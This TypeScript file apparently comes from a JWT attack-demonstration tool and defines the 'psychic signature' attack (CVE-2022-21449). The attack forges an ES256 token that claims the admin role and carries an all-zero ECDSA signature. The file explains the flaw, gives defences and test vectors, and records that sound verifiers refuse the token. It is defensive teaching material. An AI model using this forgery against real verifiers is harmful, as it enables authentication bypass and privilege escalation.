import { rfc } from '../../jwt/clause.ts';
import { withEcdsa } from '../../service/tokens/ecdsa.ts';
import { withClaims } from '../../service/tokens/parts.ts';
import type { Attack } from '../attack.ts';

export const psychicSignature: Attack = {
  id: 'psychic-signature',
  name: 'A signature of zeros',
  group: 'signature',
  setting: 'es256',
  precondition: 'The verifier’s ECDSA does not check that r and s are at least 1 and below n.',
  needs: ['nothing'],
  goal: 'u-9 is let in as admin by a signature that consists of 64 zero bytes.',
  forge: ({ honest }) => {
    const claimed = withClaims(honest, { role: 'admin' });
    return Promise.resolve({
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        {
          say: 'Put 64 zero bytes for the signature: r = 0, s = 0.',
          token: withEcdsa(claimed, 0n, 0n),
        },
      ],
    });
  },
  explanation: [
    'An ECDSA signature is two numbers, r and s. Verifying computes a point from the hash, the public key, r and 1/s, and asks whether its x coordinate is r.',
    'The first line of the algorithm asks that both numbers are at least 1. It is easy to leave out, because honest signatures never come near it. Zero has no inverse; code that computes the inverse as a power gets 0 instead. Everything is then multiplied by zero, the point is the one at infinity, and where that one’s x reads as 0 the answer is 0 = 0.',
    'The blank signature fits every message and every key. Java shipped this for four releases.',
  ],
  defence:
    'Use a maintained library and keep it up to date. If you write the arithmetic, begin with 1 ≤ r, s < n, and test it with vectors made to break it, such as Wycheproof’s.',
  bcp: ['3.4'],
  clauses: [rfc(7518, '3.4')],
  cves: [
    {
      id: 'CVE-2022-21449',
      what: 'Oracle Java SE 17.0.2 and 18, and GraalVM: ECDSA took r = s = 0 for a signature of anything',
    },
  ],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'signature',
      because: 'WebCrypto refuses an r or s of zero before it computes.',
    },
    strict: {
      outcome: 'refuse',
      at: 'signature',
      because: 'WebCrypto refuses an r or s of zero before it computes.',
    },
  },
};
